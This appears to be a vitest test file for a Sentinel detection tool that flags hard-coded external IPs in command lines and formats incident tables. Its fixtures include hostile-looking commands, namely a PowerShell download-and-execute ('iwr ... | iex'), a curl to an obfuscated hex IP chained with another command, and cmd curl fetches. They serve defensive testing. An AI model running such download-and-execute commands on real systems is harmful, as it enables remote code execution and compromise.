import { describe, expect, it } from 'vitest';
import { escapeMarkdownCell } from '../../src/sentinel/markdownText.js';
import { incidentDescription } from '../../src/sentinel/incidentDescription.js';
import { incidentFor, incidentTitle } from '../../src/sentinel/incidentFor.js';
import { SENTINEL_LIMITS } from '../../src/sentinel/sentinelLimits.js';
import { buildInvestigationQuery } from '../../src/query/buildInvestigationQuery.js';
import { finding } from './sentinelFixtures.js';

describe('escapeMarkdownCell', () => {
  it('escapes pipes so a command line cannot break the table', () => {
    expect(escapeMarkdownCell('a | b')).toBe('a \\| b');
  });

  it('flattens line breaks and neutralises HTML and emphasis', () => {
    expect(escapeMarkdownCell('x\r\ny<script>*_`')).toBe('x y&lt;script&gt;\\*\\_\\`');
  });
});

describe('incidentDescription', () => {
  it('has a table with command lines, hosts, accounts, first and last seen', () => {
    const text = incidentDescription(finding('203.0.113.5', { hosts: ['h1', 'h2'], accounts: ['CONTOSO\\alice'] }));
    expect(text).toContain('| First seen (UTC) | 2024-05-01T09:00:00.000Z |');
    expect(text).toContain('| Last seen (UTC) | 2024-05-01T10:00:00.000Z |');
    expect(text).toContain('| Hosts (2) | h1, h2 |');
    expect(text).toContain('| Accounts (1) | CONTOSO\\\\alice |');
    expect(text).toContain('| 1 | powershell -c iwr http://203.0.113.5/a.ps1 \\| iex |');
  });

  it('carries the investigation query in a code block, before the command lines', () => {
    const f = finding('203.0.113.5', { commandLines: ['curl http://0xcb.0.0x71.5/x & ping 203.0.113.5'], sources: ['defender'] });
    const text = incidentDescription(f);
    expect(text).toContain(`\`\`\`kql\n${buildInvestigationQuery(f)}\n\`\`\``);
    expect(text.indexOf('```kql')).toBeLessThan(text.indexOf('| # | Command line |'));
    expect(text).toContain('| 1 | curl http://0xcb.0.0x71.5/x &amp; ping 203.0.113.5 |');
  });

  it('names the bookmark instead of the query when the query would leave no room for a command line', () => {
    const text = incidentDescription(finding('203.0.113.5'), 1_500);
    expect(text).not.toContain('```kql');
    expect(text).toContain('The investigation query (the events behind this IP) is in the bookmark');
    expect(text).toContain('| 1 | powershell -c iwr http://203.0.113.5/a.ps1 \\| iex |');
    expect(text.length).toBeLessThanOrEqual(1_500);
  });

  it('stays within the service limit and counts the command lines left out', () => {
    const lines = Array.from({ length: 40 }, (_, i) => `cmd /c curl http://203.0.113.5/${i} ${'x'.repeat(400)}`);
    const text = incidentDescription(finding('203.0.113.5', { commandLines: lines, commandLinesOmitted: 5 }));
    expect(text.length).toBeLessThanOrEqual(SENTINEL_LIMITS.descriptionChars);
    const shown = text.split('\n').filter((l) => /^\| \d+ \|/.test(l)).length;
    expect(shown).toBeGreaterThan(3);
    expect(text).toContain(`${45 - shown} more command lines not shown`);
  });
});

describe('incidentFor', () => {
  it('names the IP and host count in the title', () => {
    expect(incidentTitle('203.0.113.5', 1)).toBe('Hard-coded external IP 203.0.113.5 in command lines on 1 host');
    expect(incidentTitle('203.0.113.5', 4)).toBe('Hard-coded external IP 203.0.113.5 in command lines on 4 hosts');
  });

  it('is New, labelled with the automation label plus configured labels, with activity times', () => {
    const incident = incidentFor(finding('203.0.113.5'), { highSeverityHostCount: 3, indicatorCidrs: [], labels: ['soc', 'cmdline-ip-hunter'] });
    expect(incident.status).toBe('New');
    expect(incident.severity).toBe('Medium');
    expect(incident.labels).toEqual([{ labelName: 'cmdline-ip-hunter' }, { labelName: 'soc' }]);
    expect(incident.firstActivityTimeUtc).toEqual(new Date('2024-05-01T09:00:00Z'));
    expect(incident.lastActivityTimeUtc).toEqual(new Date('2024-05-01T10:00:00Z'));
  });
});
